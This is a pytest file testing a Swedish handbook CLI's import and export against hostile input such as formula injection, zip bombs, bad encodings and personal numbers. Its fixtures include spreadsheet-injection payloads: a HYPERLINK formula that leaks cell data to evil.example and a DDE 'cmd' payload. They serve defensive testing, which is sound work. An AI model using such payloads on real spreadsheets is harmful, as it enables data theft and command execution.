"""Every `lis` command against hostile input: Swedish messages, no tracebacks, nothing half-written.

Most tests call `macros.cli.main` in-process (fast); a few run the installed command or `make`.
"""

from __future__ import annotations

import csv
import io
import os
import re
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from macros import cli, sheetfile
from macros.loader import load_handbook
from macros.spreadsheet import SYSTEM_COLUMNS
from tests.build_helpers import copy_project
from tests.conftest import replace_in

LIS_DATE = "2026-11-28"


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the handbook as the current folder, with a fixed build date."""
    root = copy_project(tmp_path / "handbook")
    monkeypatch.chdir(root)
    monkeypatch.setenv("LIS_DATE", LIS_DATE)
    return root


def lis(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """Run `lis ARGS` in-process; exit status, stdout, stderr."""
    code = cli.main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def snapshot(root: Path) -> dict[str, bytes]:
    """Every file under `root` (except caches) with its content: compare before and after a command."""
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and "__pycache__" not in p.parts and p.name != ".lis-bygg.lock"}


def exported_rows(root: Path) -> list[list[str]]:
    with (root / "export/systemforteckning.csv").open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


# --- 1. Formula injection and control characters in exports -------------------------------------

HOSTILE_CELLS = {
    "namn": '=HYPERLINK("http://evil.example/?"&A2,"Klicka")',
    "leverantör": "+1+cmd|' /C calc'!A0",
    "systemägare": "-2+3",
    "syfte": "@SUM(1+1)",
}


def _poison_first_system(root: Path) -> None:
    path = root / "data/system.yaml"
    text = path.read_text(encoding="utf-8")
    start = text.index("  - id: sociala-system")
    end = text.index("\n  - id:", start + 1)
    entry = text[start:end]
    for key, value in HOSTILE_CELLS.items():
        entry = re.sub(rf"^    {key}: .*$", f"    {key}: '{value.replace(chr(39), chr(39) * 2)}'", entry,
                       count=1, flags=re.M)
    path.write_text(text[:start] + entry + text[end:], encoding="utf-8")


def test_export_writes_formula_like_text_as_text(project, capsys):
    _poison_first_system(project)
    plan = project / "data/atgarder.yaml"
    plan.write_text(re.sub(r"^    område: .*$", r'    område: "\\t=1+1 \\v och \\0"',
                           plan.read_text(encoding="utf-8"), count=1, flags=re.M), encoding="utf-8")
    code, out, err = lis(capsys, "export")
    assert code == 0, err
    sheet = load_workbook(project / "export/systemforteckning.xlsx").active
    headers = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(headers, sheet[2], strict=True)}
    assert row["Namn"].value == HOSTILE_CELLS["namn"]
    for header in ("Namn", "Leverantör", "Systemägare", "Syfte"):
        assert row[header].data_type == "s" and row[header].quotePrefix, header
    assert all(c.data_type != "f" for line in sheet.iter_rows() for c in line)
    assert row["Id"].quotePrefix is False  # ordinary text is left alone
    csv_row = exported_rows(project)[1]
    assert csv_row[1:6] == ["'" + HOSTILE_CELLS["namn"], "'@SUM(1+1)", "individ-och-familj", "'-2+3",
                            "'+1+cmd|' /C calc'!A0"]
    plan = load_workbook(project / "export/handlingsplan.xlsx").active
    area = plan.cell(2, 3)
    assert area.value == "=1+1 \n och " and area.data_type == "s" and area.quotePrefix


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_neutralised_cells_come_back_unchanged_on_import(project, capsys, suffix):
    _poison_first_system(project)
    replace_in(project / "data/system.yaml", "    namn: Dokumentationsstöd öppenvård\n",
               "    namn: \"'=apostrof först\"\n")
    original = load_handbook(project / "data").systems
    assert lis(capsys, "export")[0] == 0
    system_yaml = project / "data/system.yaml"
    system_yaml.write_text(system_yaml.read_text(encoding="utf-8").split("system:\n")[0] + "system: []\n",
                           encoding="utf-8")
    replace_in(project / "data/atgarder.yaml", "    system: [sociala-system]\n", "", count=3)
    code, out, err = lis(capsys, "import", f"export/systemforteckning.{suffix}")
    assert code == 0, err
    assert load_handbook(project / "data").systems == original


def test_an_imported_formula_text_is_exported_as_text(project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    book = load_workbook(project / "export/systemforteckning.xlsx")
    book.active["A32"] = "ny-lank"
    for column, cell in zip("BCDEFGHIST", ["x", "Syfte.", "ekonomi", "Chef", "AB", "nej", "inga", "nej", "finns"],
                            strict=False):
        book.active[f"{column}32"] = cell
    book.active["T32"] = "nej"
    book.active["B32"] = '=HYPERLINK("http://evil.example/","Klicka")'
    book.active["B32"].data_type = "s"  # a text cell, as a hostile sender would make it
    source = tmp_path / "in.xlsx"
    book.save(source)
    code, _, err = lis(capsys, "import", str(source))
    assert code == 0, err
    assert load_handbook(project / "data").systems[-1].name == '=HYPERLINK("http://evil.example/","Klicka")'
    assert lis(capsys, "export", "--mapp", "ut2")[0] == 0
    cell = load_workbook(project / "ut2/systemforteckning.xlsx").active["B32"]
    assert cell.data_type == "s" and cell.quotePrefix


# --- 2. Import: files people really have ----------------------------------------------------------


def _rows_file(path: Path, rows: list[list[str]], encoding: str = "utf-8", delimiter: str = ";") -> Path:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def _new_row(rows: list[list[str]], system_id: str, name: str) -> list[str]:
    row = list(rows[1])
    row[0], row[1] = system_id, name
    return row


@pytest.mark.parametrize("encoding", ["cp1252", "utf-8", "utf-8-sig"])
def test_import_reads_csv_as_swedish_excel_saves_it(project, capsys, tmp_path, encoding):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    source = _rows_file(tmp_path / "excel.csv", [rows[0], _new_row(rows, "nytt-ao", "Åtgärdsöversikt")], encoding)
    code, out, err = lis(capsys, "import", str(source))
    assert code == 0, err
    assert out == "Importerade excel.csv: 1 nya, 0 ersatta och 0 oförändrade system.\n"
    assert load_handbook(project / "data").systems[-1].name == "Åtgärdsöversikt"


@pytest.mark.parametrize(("name", "content", "message"), [
    ("fel.xlsx", b"inte en zip", "Fel: fel.xlsx är ingen Excel-fil (.xlsx), fast namnet slutar på .xlsx"),
    ("slump.csv", bytes(range(256)) * 4, "Fel: slump.csv är varken UTF-8 eller Windows-1252 (Excel)"),
    ("tom.csv", b"", "  - rad 1: filen är tom"),
    ("en-kolumn.csv", b"Id\nx\n", '  - rad 2, kolumn Namn (finns inte i filen): fältet saknas men måste finnas'),
    ("utan-id.csv", "Namn;Syfte\nX;Y\n".encode(), '  - rad 1: kolumnen "Id" saknas; rubrikerna ska vara: Id, Namn'),
    ("finns-inte.xlsx", None, "Fel: filen "),
    ("mapp.csv", "dir", "Fel: mapp.csv är en mapp, inte en fil"),
    ("fil.txt", b"Id\n", "Fel: fil.txt: filen måste sluta på .xlsx eller .csv"),
])
def test_import_refuses_unreadable_files_in_swedish(project, capsys, tmp_path, name, content, message):
    source = tmp_path / name
    if content == "dir":
        source.mkdir()
    elif content is not None:
        source.write_bytes(content)
    before = snapshot(project)
    code, out, err = lis(capsys, "import", str(source))
    assert code == 1 and out == ""
    assert message in err
    assert "Traceback" not in err
    assert snapshot(project) == before


def _xlsx_with_sheet_xml(path: Path, sheet_xml_chunks: list[bytes]) -> Path:
    """A minimal workbook whose first sheet's XML is written in chunks (so it can be huge)."""
    base = Workbook()
    base.active["A1"] = "Id"
    template = path.with_suffix(".mall.xlsx")
    base.save(template)
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with target.open(info.filename, "w", force_zip64=True) as handle:
                    for chunk in sheet_xml_chunks:
                        handle.write(chunk)
            else:
                target.writestr(info, source.read(info.filename))
    return path


def test_import_refuses_a_zip_bomb_before_unpacking_it(project, capsys, tmp_path):
    head = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            b'<row r="1"><c r="A1" t="inlineStr"><is><t>')
    chunk = b"A" * 10_000_000
    bomb = _xlsx_with_sheet_xml(tmp_path / "bomb.xlsx", [head, *[chunk] * 21, b"</t></is></c></row></sheetData></worksheet>"])
    assert bomb.stat().st_size < 2_000_000
    code, _, err = lis(capsys, "import", str(bomb))
    assert code == 1
    assert err.startswith("Fel: bomb.xlsx packas upp till 210 MB; största tillåtna är 200 MB")


def test_import_bounds_cell_length_and_row_count(project, capsys, tmp_path):
    long_cell = _rows_file(tmp_path / "lang.csv", [["Id", "Namn"], ["x", "A" * 10_001]])
    code, _, err = lis(capsys, "import", str(long_cell))
    assert (code, err) == (1, "Fel: lang.csv, rad 2, kolumn 2: cellen har 10001 tecken; högst 10000 är tillåtna\n")
    many = _rows_file(tmp_path / "manga.csv", [["Id"], *[["x"]] * (sheetfile.MAX_ROWS + 1)])
    code, _, err = lis(capsys, "import", str(many))
    assert (code, err) == (1, "Fel: manga.csv har fler än 50000 rader; dela upp filen\n")


def test_import_reads_rows_beyond_a_stale_dimension(project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    book = Workbook()
    for row in [rows[0], *(_new_row(rows, f"stale-{i}", f"System {i}") for i in range(3))]:
        book.active.append(row)
    good = tmp_path / "bra.xlsx"
    book.save(good)
    stale = tmp_path / "gammal-storlek.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(stale, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data, count = re.subn(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:V2"', data)
                assert count == 1
            target.writestr(info, data)
    code, out, err = lis(capsys, "import", str(stale))
    assert code == 0, err
    assert out.startswith("Importerade gammal-storlek.xlsx: 3 nya")


def test_import_time_grows_linearly(project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    big = _rows_file(tmp_path / "stor.csv", [rows[0], *(_new_row(rows, f"s-{i}", f"System {i}") for i in range(20_000))])
    started = time.monotonic()
    code, out, err = lis(capsys, "import", str(big))
    assert code == 0, err
    assert out.startswith("Importerade stor.csv: 20000 nya")
    assert time.monotonic() - started < 40  # was 49 s (quadratic); about 10 s on a loaded 2-core machine


def test_import_runs_the_personal_number_guard(project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    row = _new_row(rows, "pnr", "Kontakt 900101-1239")
    source = _rows_file(tmp_path / "pnr.csv", [rows[0], row])
    before = snapshot(project)
    code, _, err = lis(capsys, "import", str(source))
    assert code == 1
    assert ("  - rad 2, kolumn 2 (Namn): 900101-1239 ser ut som ett personnummer eller samordningsnummer; "
            "personuppgifter får inte finnas i handboken") in err.splitlines()
    assert snapshot(project) == before


@pytest.mark.parametrize("name", ["1_000", "0b101", "0x1F", "1.5e+3", "Ja", "null", "~", ".inf", "12:30",
                                  "Foo: bar # baz", "*alias", "- punkt", "rad\u2028två", "tab\there"])
def test_import_keeps_number_like_names_as_text(project, capsys, tmp_path, name):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    source = _rows_file(tmp_path / "namn.csv", [rows[0], _new_row(rows, "nummer", name)])
    code, _, err = lis(capsys, "import", str(source))
    assert code == 0, err
    assert load_handbook(project / "data").systems[-1].name == name


def test_import_names_the_missing_id_column_even_with_unknown_headers(project, capsys, tmp_path):
    source = _rows_file(tmp_path / "fel.csv", [["Namn", "Anteckning"], ["X", "Y"]])
    code, _, err = lis(capsys, "import", str(source))
    assert code == 1
    lines = err.splitlines()
    assert lines[1].startswith("  - rad 1: okända rubriker: Anteckning; rubrikerna ska vara: Id, Namn")
    assert lines[2].startswith('  - rad 1: kolumnen "Id" saknas')


def test_import_into_a_read_only_inventory_says_so(project, capsys, tmp_path):
    assert lis(capsys, "export")[0] == 0
    rows = exported_rows(project)
    source = _rows_file(tmp_path / "ny.csv", [rows[0], _new_row(rows, "ny", "Ny")])
    (project / "data/system.yaml").chmod(0o444)
    if os.access(project / "data/system.yaml", os.W_OK):
        pytest.skip("körs som root: skrivskyddet gäller inte")
    code, _, err = lis(capsys, "import", str(source))
    assert code == 1
    assert err.startswith("Fel: kan inte skriva data/system.yaml: behörighet saknas")
    assert "Traceback" not in err


# --- 3. Export and PDF never overwrite -------------------------------------------------------------


def test_export_refuses_to_overwrite_without_ersatt(project, capsys):
    assert lis(capsys, "export")[0] == 0
    (project / "export/systemforteckning.csv").write_text("min egen fil", encoding="utf-8")
    before = snapshot(project)
    code, _, err = lis(capsys, "export")
    assert code == 1
    assert "export/systemforteckning.csv" in err and "lägg till --ersatt. Ingenting har skrivits." in err
    assert snapshot(project) == before
    code, out, _ = lis(capsys, "export", "--ersatt")
    assert code == 0 and out.startswith("Skrev export/systemforteckning.xlsx")
    assert (project / "export/systemforteckning.csv").read_text(encoding="utf-8-sig").startswith("Id;Namn")


@pytest.mark.parametrize(("folder", "message"), [
    ("/dev/null/x", "Fel: /dev/null finns men är ingen mapp; ingenting har skrivits"),
    ("fil", "finns men är ingen mapp; ingenting har skrivits"),
    ("/proc/export", "Fel: kan inte skapa mappen /proc/export: "),
])
def test_export_to_an_impossible_folder_says_so(project, capsys, folder, message):
    (project / "fil").write_text("x", encoding="utf-8")
    before = snapshot(project)
    code, _, err = lis(capsys, "export", "--mapp", folder)
    assert code == 1 and message in err and "Traceback" not in err
    assert snapshot(project) == before


@pytest.mark.parametrize(("args", "message"), [
    (["--ut", "/dev/null/x.pdf"], "Fel: /dev/null finns men är ingen mapp"),
    (["--ut", "finns.pdf"], "finns.pdf finns redan; inget kommando skriver över"),
    (["--ut", "."], "är en mapp; ange en fil"),
])
def test_pdf_refuses_bad_or_existing_targets_before_building(project, capsys, args, message):
    (project / "finns.pdf").write_bytes(b"%PDF gammal")
    before = snapshot(project)
    started = time.monotonic()
    code, _, err = lis(capsys, "pdf", "2025", *args)
    assert code == 1 and message in err
    assert time.monotonic() - started < 5  # refused before the build
    assert snapshot(project) == before
